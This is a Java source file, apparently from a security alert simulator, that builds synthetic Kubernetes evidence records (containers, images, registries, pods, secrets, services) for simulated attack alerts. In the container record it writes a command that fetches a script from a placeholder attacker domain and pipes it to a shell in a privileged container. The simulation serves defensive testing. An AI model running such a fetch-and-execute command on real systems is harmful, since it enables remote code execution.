package io.defenderxdr.simulator.attack;

import java.util.List;
import java.util.Map;

/** Evidence from containers and the clusters they run in. */
final class KubernetesEvidence {
  static final Map<String, Evidence.Kind> KINDS =
      Map.ofEntries(
          Map.entry("container", KubernetesEvidence::container),
          Map.entry("containerImage", KubernetesEvidence::image),
          Map.entry("containerRegistry", KubernetesEvidence::registry),
          Map.entry("kubernetesCluster", KubernetesEvidence::cluster),
          Map.entry("kubernetesController", KubernetesEvidence::controller),
          Map.entry("kubernetesNamespace", KubernetesEvidence::namespace),
          Map.entry("kubernetesPod", KubernetesEvidence::pod),
          Map.entry("kubernetesSecret", KubernetesEvidence::secret),
          Map.entry("kubernetesServiceAccount", KubernetesEvidence::serviceAccount),
          Map.entry("kubernetesService", KubernetesEvidence::service));

  private KubernetesEvidence() {}

  private static void container(Pen pen, Stage stage) {
    pen.text("containerId", stage.dice().hex(64)).text("name", "worker");
    pen.texts("command", List.of("/bin/sh", "-c")).flag("isPrivileged", true);
    pen.texts("args", List.of("curl http://" + stage.attackerDomain() + "/x | sh"));
    Evidence.nested(pen, stage, "image", "containerImage");
    pen.none("pod");
  }

  private static void image(Pen pen, Stage stage) {
    pen.text("imageId", "sha256:" + stage.dice().hex(64));
    Evidence.nested(pen, stage, "registry", "containerRegistry");
    pen.none("digestImage");
  }

  private static void registry(Pen pen, Stage stage) {
    pen.text("registry", "registry." + stage.attackerDomain());
  }

  private static void cluster(Pen pen, Stage stage) {
    pen.text("name", "aks-prod").text("distribution", "AKS").text("platform", "aks");
    pen.text("version", "1.30." + stage.dice().below(9));
    Evidence.nested(pen, stage, "cloudResource", "azureResource");
  }

  private static void controller(Pen pen, Stage stage) {
    pen.text("name", "worker").text("type", "Deployment");
    labels(pen, "labels");
    Evidence.nested(pen, stage, "namespace", "kubernetesNamespace");
  }

  private static void labels(Pen pen, String property) {
    pen.object(
        property, () -> pen.text("app", "worker").text("team.contoso.example/owner", "shop"));
  }

  private static void namespace(Pen pen, Stage stage) {
    pen.text("name", "production");
    if (stage.place().depth() == 0) {
      labels(pen, "labels");
      Evidence.nested(pen, stage, "cluster", "kubernetesCluster");
    } else {
      pen.none("labels", "cluster");
    }
  }

  private static void pod(Pen pen, Stage stage) {
    pen.text("name", "worker-" + stage.dice().hex(9));
    labels(pen, "labels");
    Evidence.nestedList(pen, stage, "containers", "container");
    pen.texts("initContainers", List.of()).texts("ephemeralContainers", List.of());
    Evidence.nested(pen, stage, "controller", "kubernetesController");
    Evidence.nested(pen, stage, "namespace", "kubernetesNamespace");
    Evidence.nested(pen, stage, "podIp", "ip");
    Evidence.nested(pen, stage, "serviceAccount", "kubernetesServiceAccount");
  }

  private static void secret(Pen pen, Stage stage) {
    pen.text("name", "db-password").text("secretType", "Opaque");
    Evidence.nested(pen, stage, "namespace", "kubernetesNamespace");
  }

  private static void serviceAccount(Pen pen, Stage stage) {
    pen.text("name", "worker-sa");
    Evidence.nested(pen, stage, "namespace", "kubernetesNamespace");
  }

  private static void service(Pen pen, Stage stage) {
    pen.text("name", "worker-svc").text("serviceType", "loadBalancer");
    labels(pen, "labels");
    labels(pen, "selector");
    Evidence.nested(pen, stage, "clusterIP", "ip");
    Evidence.nestedList(pen, stage, "externalIPs", "ip");
    Evidence.nested(pen, stage, "namespace", "kubernetesNamespace");
    pen.objects("servicePorts", List.of(443), port -> port(pen, port));
  }

  private static void port(Pen pen, int port) {
    pen.text("name", "https").text("appProtocol", "https").number("port", port);
    pen.text("targetPort", "8443").number("nodePort", 30_443).text("protocol", "tcp");
  }
}
